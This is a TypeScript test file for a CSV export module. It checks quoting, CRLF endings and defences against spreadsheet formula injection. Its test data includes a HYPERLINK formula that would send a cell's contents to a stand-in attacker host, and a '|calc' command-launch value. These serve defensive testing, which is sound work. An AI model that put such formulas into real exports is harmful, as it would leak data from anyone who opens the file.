import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.ts';

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    [null, ''],
    [-5, '-5'],
    [4.5, '4.5'],
    [true, 'true'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded ', '" padded "'],
    [['Abstract', 'Pop, Op'], '"Abstract; Pop, Op"'],
    [[], ''],
  ])('%j is %s', (value, cell) => expect(csvCell(value)).toBe(cell));

  it.each([
    '=1+1',
    '+1 210 555 0100',
    '-1',
    '@SUM(A1)',
    ' =1+1',
    '\t=1+1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '|calc',
    '%0a',
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
  ])('%j cannot run as a formula', (text) => {
    expect(csvCell(text).replace(/^"/, '')).toMatch(/^'/);
  });
});

/** A strict RFC 4180 reader, to read back what was written. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  for (const record of csv.replace(/^\ufeff/, '').matchAll(/((?:"(?:[^"]|"")*"|[^"\r\n])*)\r\n/g)) {
    const cells = [...`${record[1]},`.matchAll(/("(?:[^"]|"")*"|[^",]*),/g)];
    rows.push(
      cells.map(([, cell = '']) =>
        cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
      ),
    );
  }
  return rows;
}

describe('toCsv', () => {
  const columns = [
    { header: 'Name', value: (row: { name: string }) => row.name },
    { header: 'Length', value: (row: { name: string }) => row.name.length },
  ];

  it('has headings, CRLF and a byte order mark', () => {
    expect(toCsv(columns, [{ name: 'Ana' }])).toBe('\ufeffName,Length\r\nAna,3\r\n');
    expect(toCsv(columns, [])).toBe('\ufeffName,Length\r\n');
  });

  it('reads back, apostrophes aside, whatever people typed', () => {
    const nasty = fc.string({
      unit: fc.constantFrom('a', ',', '"', '\n', '\r', '=', ' ', "'", ';'),
    });
    fc.assert(
      fc.property(fc.array(nasty.map((name) => ({ name }))), (rows) => {
        const read = parse(toCsv(columns, rows)).slice(1);
        expect(read).toHaveLength(rows.length);
        rows.forEach(({ name }, i) => {
          expect([name, `'${name}`]).toContain(read[i]?.[0]);
          expect(read[i]?.[0]).not.toMatch(/^\s*[=+\-@]/);
        });
      }),
    );
  });
});
